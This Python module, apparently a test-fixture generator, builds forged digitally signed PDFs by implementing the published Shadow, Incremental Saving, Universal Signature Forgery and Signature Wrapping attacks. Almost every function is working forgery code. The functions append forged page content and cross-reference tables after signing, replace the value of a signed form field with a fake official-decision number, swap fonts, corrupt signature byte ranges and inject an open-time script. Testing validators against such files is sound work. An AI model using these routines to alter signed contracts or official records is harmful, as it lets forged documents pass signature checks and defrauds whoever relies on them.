"""Signed PDFs bent as the published attacks bend them: shadow (hide, replace, both), ISA, USF, SWA.

Mainka, Mladenov, Rohlmann, Schwenk: "Shadow Attacks" (NDSS 2021) and "1 Trillion Dollar Refund" (CCS 2019).
"""

import re
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED = b"BT /F1 40 Tf 100 400 Td (DA SUA) Tj ET"


def finish(writer):
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def page_of(writer):
    kids = writer.root["/Pages"]["/Kids"]
    return kids.raw_get(0).reference, kids[0]


def startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def size_of(data):
    return int(PdfFileReader(BytesIO(data)).trailer["/Size"])


def bare_update(data, objects, *, trailer=b"", listed=None):
    """Append objects as text; `listed` maps object numbers to offsets where they differ from what is appended."""
    body, offsets = b"\n", {}
    for number, content in objects.items():
        offsets[number] = len(data) + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    offsets |= listed or {}
    at = len(data) + len(body)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in sorted(offsets.items()))
    root = PdfFileReader(BytesIO(data)).trailer.raw_get("/Root").idnum
    body += b"xref\n" + rows + b"trailer\n<</Size %d/Root %d 0 R/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size_of(data), root, startxref(data), trailer, at
    )  # fmt: skip
    return data + body


# --- trước khi ký: tài liệu có mầm


def with_overlay(pdf):
    """Hide: a white sheet lies over part of the page, drawn by an object of its own."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    _reference, page = page_of(writer)
    sheet = writer.add_object(generic.StreamObject(stream_data=b"1 1 1 rg 60 300 400 200 re f"))
    contents = page.raw_get("/Contents")
    old = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    page[pdf_name("/Contents")] = generic.ArrayObject([*old, sheet])
    writer.update_container(page)
    return finish(writer), sheet.reference.idnum


def with_hidden_twin(pdf):
    """Hide and replace: the page's content stands twice, the second one named by no table yet."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    _reference, page = page_of(writer)
    contents = page.raw_get("/Contents")
    number = (contents[0] if isinstance(contents, generic.ArrayObject) else contents).reference.idnum
    twin = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(FORGED), FORGED)
    writer.add_object(generic.StreamObject(stream_data=twin))
    made = finish(writer)
    assert twin in made
    return made, number, twin


# --- sau khi ký


def hide_by_freeing(signed, sheet):
    """The sheet's object is declared free."""
    at = len(signed) + 1
    root = PdfFileReader(BytesIO(signed)).trailer.raw_get("/Root").idnum
    return signed + (
        b"\nxref\n%d 1\n0000000000 00001 f \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (sheet, size_of(signed), root, startxref(signed), at)
    )


def hide_by_emptying(signed, sheet):
    return bare_update(signed, {sheet: b"<</Length 0>>\nstream\n\nendstream"})


def replace_value(signed):
    """Replace: the value of a text field that was filled in when it was signed."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    field = next(f.get_object() for f in writer.root["/AcroForm"]["/Fields"] if f.get_object()["/T"] == "CV_So")
    field[pdf_name("/V")] = generic.pdf_string("9999/QĐ-UBND")
    writer.update_container(field)
    return finish(writer)


def replace_font(signed):
    """Replace: another typeface under the same name, so that digits look like others."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    _reference, page = page_of(writer)
    fonts = page["/Resources"]["/Font"]
    for name in list(fonts):
        fonts[pdf_name(name)] = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Symbol"),
            }
        )
    writer.update_container(fonts)
    return finish(writer)


def hide_and_replace(signed, number, twin):
    """Only the table is new: it points at the twin that was signed with everything else."""
    return bare_update(signed, {}, listed={number: signed.index(twin)})


def swap_root(signed):
    """A second catalogue shows another tree of pages."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    pages = generic.DictionaryObject(writer.root["/Pages"])
    pages[pdf_name("/Kids")] = generic.ArrayObject([])
    pages[pdf_name("/Count")] = generic.NumberObject(0)
    writer.root[pdf_name("/Pages")] = writer.add_object(pages)
    writer.update_root()
    return finish(writer)


def new_content(signed):
    """ISA: the page's content is written anew in an ordinary update."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    _reference, page = page_of(writer)
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED))
    writer.update_container(page)
    return finish(writer)


def new_content_without_table(signed):
    """ISA: objects behind the end, no table, in the hope that the reader repairs the file."""
    reader = PdfFileReader(BytesIO(signed))
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    number = (contents[0] if isinstance(contents, generic.ArrayObject) else contents).reference.idnum
    return signed + b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\ntrailer\n<<>>\n%%%%EOF\n" % (
        number, len(FORGED), FORGED
    )  # fmt: skip


def added_note(signed):
    """EAA: a note drawn over the page, which a certified paper does not allow."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    _reference, page = page_of(writer)
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (60, 300, 460, 500)]),
            pdf_name("/Contents"): generic.pdf_string("Đã sửa"),
            pdf_name("/DA"): generic.pdf_string("/Helv 30 Tf 0 g"),
        }
    )
    held = page.get("/Annots")
    page[pdf_name("/Annots")] = generic.ArrayObject([*(held or []), writer.add_object(note)])
    writer.update_container(page)
    return finish(writer)


def added_script(signed):
    """An action that runs when the paper is opened."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    action = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
    )
    writer.root[pdf_name("/OpenAction")] = writer.add_object(action)
    writer.update_root()
    return finish(writer)


def signature_object(signed):
    """Number and text of the last signature's dictionary."""
    reader = PdfFileReader(BytesIO(signed))
    number = reader.embedded_signatures[-1].sig_field.raw_get("/V").idnum
    start = signed.rindex(b"\n%d 0 obj" % number) + 1
    start = signed.index(b"<<", start)
    return number, signed[start : signed.index(b"endobj", start)].strip()


def usf(signed, change):
    """USF: the signature's dictionary written anew, with what names the signed bytes bent or taken away."""
    number, text = signature_object(signed)
    return bare_update(signed, {number: change(text)})


USF = {
    "no_range": lambda text: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", text),
    "null_range": lambda text: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null", text),
    "zero_range": lambda text: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 0 0 0]", text),
    "negative_range": lambda text: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 -1 -2 -3]", text),
    "huge_range": lambda text: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 99999999999 1 9]", text),
    "no_contents": lambda text: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"", text),
    "empty_contents": lambda text: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <>", text),
    "null_contents": lambda text: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents null", text),
    "zero_contents": lambda text: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <0000>", text),
    "same_again": lambda text: text,
}


def swa(signed):
    """SWA: the signed tail moves to the end, a forged table and signature dictionary stand in between."""
    first, hole, second, _length = (int(n) for n in PdfFileReader(BytesIO(signed)).embedded_signatures[-1].byte_range)
    assert first == 0
    head, container, tail = signed[:hole], signed[hole:second], signed[second:]
    number, text = signature_object(signed)
    table = startxref(signed)
    reader = PdfFileReader(BytesIO(signed))
    root = reader.trailer.raw_get("/Root").idnum
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    page_content = (contents[0] if isinstance(contents, generic.ArrayObject) else contents).reference.idnum
    last = reader.xrefs.explicit_refs_in_revision(reader.xrefs.total_revisions - 1)
    kept = {ref.idnum: reader.xrefs[ref] for ref in last if ref.idnum not in {number, page_content}}
    between = b""
    for _round in range(3):  # độ dài phần chen vào quyết định vùng ký, nên tính lại cho tới khi khớp
        moved = second + len(between)
        bent = re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 %d %d %d]" % (hole, moved, len(tail)), text)
        forged = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (page_content, len(FORGED), FORGED)
        offsets = {n: at if at < hole else at + len(between) for n, at in kept.items()}
        trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (size_of(signed), root, first_table(signed))
        start = table + 5 + sum(len(b"%d 1\n" % n) + 20 for n in (*offsets, page_content, number)) + len(trailer)
        offsets |= {page_content: start, number: start + len(forged)}
        rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, at) for n, at in sorted(offsets.items()))
        body = b"xref\n" + rows + trailer + forged + b"%d 0 obj\n%s\nendobj\n" % (number, bent)
        between = b" " * (table - second) + body
    return head + container + between + tail


def first_table(signed):
    found = [int(n) for n in re.findall(rb"startxref\s+(\d+)", signed)]
    return found[-2] if len(found) > 1 else found[-1]
